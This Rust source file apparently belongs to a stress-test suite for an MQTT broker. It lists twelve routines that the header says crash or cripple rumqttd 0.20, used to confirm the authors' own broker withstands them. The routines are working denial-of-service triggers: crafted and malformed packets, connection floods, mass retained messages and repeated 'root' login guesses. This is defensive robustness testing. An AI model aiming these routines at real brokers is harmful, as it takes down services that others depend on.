//! What ends or cripples rumqttd 0.20, each by an ordinary client. Ours must not even notice.

use super::field::Field;
use super::launch::Attack;
use super::packet::{self, Connect, KEPT, VERSIONS};
use std::time::Duration;

pub(crate) const ALL: &[Attack] = &[
    killer("topic-beyond-ascii", topic_beyond_ascii),
    killer("odd-client-ids-twice", odd_client_ids_twice),
    killer("shared-left-unacknowledged", shared_left_unacknowledged),
    killer("silence-on-every-listener", silence_on_every_listener),
    killer("wildcard-over-500-retained", wildcard_over_500_retained),
    killer("empty-publish-not-retained", empty_publish_not_retained),
    killer("unsubscribe-on-a-resumed-session", unsubscribe_on_a_resumed_session),
    killer("keep-alive-zero", keep_alive_zero),
    killer("failed-authentication", failed_authentication),
    killer("connack-before-connect", connack_before_connect),
    killer("disconnect-of-length-one", disconnect_of_length_one),
    Attack { amount: [1000, 10_000], ..killer("one-shot-filters", one_shot_filters) },
];

const fn killer(name: &'static str, deed: fn(&mut Field) -> usize) -> Attack {
    Attack { name, amount: [20, 500], seconds: [5, 30], promised: false, deed }
}

fn topic_beyond_ascii(field: &mut Field) -> usize {
    field.repeat(|n| {
        let version = VERSIONS[n % 2];
        let Some(mut enemy) = field.named(version, "é") else { return };
        enemy.send(&packet::subscribe(version, &["é/#", "+/x", "日本/+"], 1));
        for topic in ["é/x", "日本/語", "\u{10FFFF}", "é/\u{1}"] {
            enemy.send(&packet::publish(version, topic, b"x", 1, 7));
        }
        enemy.drain(Duration::from_millis(5));
    })
}

fn odd_client_ids_twice(field: &mut Field) -> usize {
    let ids = ["+", "$", "#", "/", "a/+/b", "$SYS/#", "%2F", "../..", "\u{1}"];
    field.repeat(|n| {
        let (id, version) = (ids[n % ids.len()], VERSIONS[n / ids.len() % 2]);
        let first = field.named(version, id);
        let again = field.named(version, id);
        drop((first, again, field.named(version, id)));
    })
}

fn shared_left_unacknowledged(field: &mut Field) -> usize {
    field.repeat(|n| {
        let id = format!("shared{}", n % 10);
        let kept = Connect { flags: KEPT, expiry_s: 60, ..Connect::new(5, &id) };
        let Some(mut member) = field.enter(&kept) else { return };
        member.send(&packet::subscribe(5, &["$share/g/shared/#"], 1));
        for id in 1..20 {
            member.send(&packet::publish(5, "shared/t", b"never acknowledged", 1, id));
        }
        member.drain(Duration::from_millis(5));
    })
}

fn silence_on_every_listener(field: &mut Field) -> usize {
    let listeners = field.listeners.iter().cycle();
    let silent: Vec<_> =
        listeners.take(field.amount).filter_map(|at| super::field::Enemy::dial(at)).collect();
    std::thread::sleep(Duration::from_secs(2));
    silent.len()
}

fn wildcard_over_500_retained(field: &mut Field) -> usize {
    let Some(mut writer) = field.named(4, "keeper") else { return 0 };
    for n in 0..500 {
        writer.send(&packet::retained(4, format!("kept/{n}"), b"kept", 0, 1));
    }
    let done = field.repeat(|n| {
        let Some(mut reader) = field.named(VERSIONS[n % 2], "wild") else { return };
        reader.send(&packet::subscribe(VERSIONS[n % 2], &["kept/#"], u8::from(n % 3 > 0)));
        reader.drain(Duration::from_millis(20));
    });
    for n in 0..500 {
        writer.send(&packet::retained(4, format!("kept/{n}"), b"", 0, 1));
    }
    writer.drain(Duration::from_millis(50));
    done
}

fn empty_publish_not_retained(field: &mut Field) -> usize {
    field.repeat(|n| {
        let Some(mut enemy) = field.named(VERSIONS[n % 2], "empty") else { return };
        enemy.send(&packet::retained(VERSIONS[n % 2], "empty", b"x", 1, 1));
        enemy.send(&packet::publish(VERSIONS[n % 2], "empty", b"", 1, 2));
        enemy.send(&packet::retained(VERSIONS[n % 2], "empty", b"", 1, 3));
        enemy.drain(Duration::from_millis(5));
    })
}

fn unsubscribe_on_a_resumed_session(field: &mut Field) -> usize {
    field.repeat(|n| {
        let kept =
            Connect { flags: KEPT, expiry_s: 60, ..Connect::new(VERSIONS[n % 2], "resumed") };
        let Some(mut enemy) = field.enter(&kept) else { return };
        enemy.send(&packet::unsubscribe(kept.version, &["resumed/#", "never/there"]));
        enemy.send(&packet::subscribe(kept.version, &["resumed/#"], 2));
        enemy.send(&packet::publish(kept.version, "resumed/t", b"x", 2, 1));
        enemy.drain(Duration::from_millis(5));
    })
}

fn keep_alive_zero(field: &mut Field) -> usize {
    field.repeat(|n| {
        let zero = Connect { keep_alive_s: u16::from(n % 2 > 0), ..Connect::new(4, "zero") };
        if let Some(mut enemy) = field.enter(&zero) {
            enemy.send(&packet::PING);
            enemy.wait(2);
        }
    })
}

fn failed_authentication(field: &mut Field) -> usize {
    field.repeat(|n| {
        let login = Some(("root", "guess"));
        let id = format!("guess{n}");
        let connect = Connect { login, ..Connect::new(VERSIONS[n % 2], &id) };
        if let Some(mut enemy) = field.dial() {
            enemy.send(&connect.bytes());
            enemy.send(&packet::PING); // not allowed in yet, but there
            if n % 4 == 0 {
                enemy.drain(Duration::from_millis(20));
            }
        }
    })
}

fn connack_before_connect(field: &mut Field) -> usize {
    let first: [&[u8]; 6] = [
        &[0x20, 1, 0x83],
        &[0x20, 2, 0, 0],
        &packet::PING,
        &packet::BYE,
        &[0xF0, 0],
        b"GET / HTTP/1.1\r\n\r\n",
    ];
    field.repeat(|n| {
        let Some(mut enemy) = field.dial() else { return };
        enemy.send(first[n % first.len()]);
        enemy.end();
    })
}

fn disconnect_of_length_one(field: &mut Field) -> usize {
    field.repeat(|n| {
        let reason = field_reason(n);
        let Some(mut enemy) = field.named(VERSIONS[n % 2], "leaver") else { return };
        enemy.send(&[0xE0, 1, reason]);
        enemy.end();
    })
}

fn field_reason(n: usize) -> u8 {
    u8::try_from(n % 256).expect("a byte")
}

fn one_shot_filters(field: &mut Field) -> usize {
    field.repeat(|n| {
        let Some(mut enemy) = field.named(VERSIONS[n % 2], &format!("rr{n}")) else { return };
        enemy.send(&packet::subscribe(VERSIONS[n % 2], &[format!("answer/{n}")], 1));
        enemy.wait(5);
    })
}
